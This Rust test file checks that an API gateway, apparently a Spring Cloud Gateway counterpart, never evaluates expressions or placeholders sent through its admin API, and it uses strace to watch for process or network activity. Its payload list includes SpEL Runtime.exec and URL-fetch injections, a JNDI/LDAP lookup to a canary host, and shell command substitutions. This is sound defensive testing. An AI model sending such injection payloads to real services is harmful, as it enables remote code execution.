//! Expressions and placeholders are text: whatever argument, key or id they are written in, nothing
//! is evaluated, and nothing of the process, its files, its environment or the network is touched.
//!
//! Placeholders of files are Spring's own configuration feature and are filled in there, and there
//! only.

use std::io::{BufRead, BufReader};
use std::process::{Command, Stdio};

use serde_json::{Map, Value, json};
use weir_admin::read_definition;
use weir_config::{Format, Loader, Source};
use weir_testkit::{Client, Gateway};

/// Each would show one of [`EVALUATED`] if it were evaluated, or leave a trace.
const EXPRESSIONS: &[&str] = &[
    "#{7777 * 7777}",
    "#{'EVAL' + 'UATED'}",
    "#{@environment.getProperty('weir.value')}",
    "#{systemProperties['weir.value']}",
    "#{systemEnvironment['WEIR_VALUE']}",
    "#{environment['WEIR_VALUE'] = 'x'}",
    "#{T(java.lang.Runtime).getRuntime().exec('touch weir-canary')}",
    "#{new java.net.URL('http://weir-canary.invalid/').openStream()}",
    "#{new java.io.File('weir-canary').createNewFile()}",
    "T(java.lang.System).getenv('WEIR_VALUE')",
    "${weir.value}",
    "${WEIR_VALUE}",
    "${weir.none:${weir.value}}",
    "${weir.none:EVAL${weir.uated}}",
    "#{${weir.value}}",
    "a#{'EVAL' + 'UATED'}b",
    "@weirBean",
    "#{@weirBean}",
    "{{7777*7777}}",
    "${jndi:ldap://weir-canary.invalid/a}",
    "${file:UTF-8:weir-canary}",
    "$(cat weir-canary)",
    "`cat weir-canary`",
    "classpath:weir-canary",
    "file:weir-canary",
    "%{WEIR_VALUE}",
    "*{7777 * 7777}",
];

const EVALUATED: &[&str] = &["60481729", "EVALUATED"];

const FILE: &str = "weir.value: EVALUATED\nweir.uated: UATED\nserver.port: 0\n\
    server.address: 127.0.0.1\nweir.admin.port: 0\n";

fn loader(text: &str) -> Loader {
    let variables = vec![("WEIR_VALUE".to_owned(), "EVALUATED".to_owned())];
    let mut loader = Loader::new(variables, &[], Vec::new());
    loader.add(Source::new("a.yml", text.to_owned(), Format::Yaml));
    loader
}

/// Every definition with `text` in one of its places.
fn definitions(text: &str) -> Vec<Value> {
    let plain = || json!({ "id": "a", "uri": "http://h:1", "predicates": ["Path=/a"] });
    let with = |key: &str, value: Value| {
        let mut route = plain();
        route[key] = value;
        route
    };
    let keyed = json!({ text: "x", "a": text, "b": { text: [text] } });
    let mut all = vec![
        with("id", json!(text)),
        with("uri", json!(text)),
        with("uri", json!(format!("http://{text}:80"))),
        with("uri", json!(format!("lb://{text}"))),
        with("metadata", keyed),
        with(text, json!(text)),
        with("predicates", json!([text])),
        with("filters", json!([text])),
        with("filters", json!([format!("SetPath={text}")])),
    ];
    let predicates =
        weir_route::predicate::SPECS.iter().map(|spec| ("predicates", spec.name, spec.args));
    let filters = weir_filter::filter::SPECS.iter().map(|spec| ("filters", spec.name, spec.args));
    for (list, name, args) in predicates.chain(filters) {
        all.push(with(list, json!([format!("{name}={text}")])));
        all.push(with(list, json!([format!("{name}=a, {text}, {text}")])));
        all.push(with(list, json!([{ "name": name, "args": { text: text } }])));
        for arg in args {
            let mut filled: Map<String, Value> =
                args.iter().map(|other| (other.name.to_owned(), json!("1"))).collect();
            filled.insert(arg.name.to_owned(), json!(text));
            all.push(with(list, json!([{ "name": name, "args": filled }])));
        }
    }
    all
}

#[test]
fn no_argument_key_or_id_of_the_api_is_evaluated() {
    let compiler = loader(FILE).load().compiler;
    let (mut taken, mut refused) = (0, 0);
    for text in EXPRESSIONS {
        for json in definitions(text) {
            let outcome = match read_definition(&json) {
                Err(problems) => format!("{problems:?}"),
                Ok(definition) => match compiler.compile(&definition, 0) {
                    Err(problems) => format!("{problems:?}"),
                    Ok(route) => {
                        taken += 1;
                        let snapshot = compiler.snapshot(vec![route.clone()]);
                        format!("{route:?} {} {definition:?}", snapshot.index.len())
                    }
                },
            };
            refused += 1;
            for evaluated in EVALUATED {
                assert!(!outcome.contains(evaluated), "{json}: {outcome}");
            }
        }
    }
    assert!(taken > 500 && refused > taken, "{taken} of {refused} were taken");
}

/// The counter-proof: in a file, the placeholder is filled in, and an expression refused.
#[test]
fn a_file_fills_in_placeholders_and_refuses_expressions() {
    let route = |filter: &str| {
        format!(
            "{FILE}spring.cloud.gateway.routes:\n- id: a\n  uri: http://h:1\n  predicates: \
             [Path=/a]\n  filters:\n  - \"{filter}\"\n"
        )
    };
    let mut loaded = loader(&route("SetPath=/${weir.value}")).load();
    let compiled = loaded.compile();
    assert!(!loaded.is_refused());
    assert!(format!("{:?}", compiled.routes).contains("/EVALUATED"));
    let mut loaded = loader(&route("SetPath=#{'EVAL' + 'UATED'}")).load();
    loaded.compile();
    assert!(loaded.is_refused());
    let told = format!("{:?}", loaded.diagnostics);
    assert!(told.contains("never evaluates") && !told.contains("EVALUATED"), "{told}");
}

/// Follows a process with strace; `None` where that is not to be had.
fn follow(gateway: &Gateway) -> Option<std::process::Child> {
    let log = gateway.directory().join("strace.log");
    let mut strace = Command::new("strace")
        .args(["-f", "-s", "300", "-e", "trace=execve,open,openat,connect,unlink,rename", "-o"])
        .arg(log)
        .args(["-p", &gateway.pid().to_string()])
        .stdin(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .ok()?;
    let mut lines = BufReader::new(strace.stderr.take()?).lines();
    let first = lines.next()?.ok()?;
    if first.contains("attached") {
        // Its other lines must not fill the pipe.
        std::thread::spawn(move || lines.map_while(Result::ok).count());
        return Some(strace);
    }
    eprintln!("not followed: {first}");
    let _ = strace.kill();
    let _ = strace.wait();
    None
}

#[tokio::test]
async fn nothing_outside_is_touched_by_what_the_api_is_sent() {
    let mut command = Command::new(env!("CARGO_BIN_EXE_weir"));
    command.env("WEIR_VALUE", "EVALUATED");
    let args = ["run", "{config}", "--log", "trace"];
    let canary = ("weir-canary", b"EVALUATED".as_slice());
    let gateway = Gateway::launch(command, &args, &[("weir.yaml", FILE.as_bytes()), canary]);
    gateway.address();
    let strace = follow(&gateway);
    let mut client = Client::connect(gateway.admin()).await;
    let mut created = 0;
    for text in EXPRESSIONS {
        // Every place once, without the long tail of filters: the cross product is above.
        for (n, json) in definitions(text).into_iter().enumerate().filter(|(n, _)| n % 5 == 0) {
            let body = json.to_string();
            client
                .send(format!(
                    "POST /actuator/gateway/routes/r{n} HTTP/1.1\r\nHost: localhost\r\n\
                     Content-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
                    body.len()
                ))
                .await;
            let response = client.read_response().await;
            assert!(response.status < 500, "{json}: {response:?}");
            created += usize::from(response.status < 300);
            for evaluated in EVALUATED {
                assert!(!response.text().contains(evaluated), "{json}: {response:?}");
            }
        }
    }
    assert!(created > 20, "{created}");
    for path in ["routes", "routedefinitions", "audit"] {
        client
            .send(format!("GET /actuator/gateway/{path} HTTP/1.1\r\nHost: localhost\r\n\r\n"))
            .await;
        let text = client.read_response().await.text();
        assert!(!EVALUATED.iter().any(|evaluated| text.contains(evaluated)), "{path}: {text}");
    }
    if let Some(mut strace) = strace {
        let _ = strace.kill();
        let _ = strace.wait();
        let log = std::fs::read_to_string(gateway.directory().join("strace.log")).expect("a log");
        for forbidden in ["execve(", "weir-canary", "sa_family=AF_INET", "nscd", "resolv.conf"] {
            let found = log.lines().find(|line| line.contains(forbidden));
            assert_eq!(found, None, "{forbidden}");
        }
    }
    // The findings at start quote the configuration itself.
    let output = gateway.output().split("listening http").nth(1).unwrap_or_default().to_owned();
    assert!(!EVALUATED.iter().any(|evaluated| output.contains(evaluated)), "{output}");
}
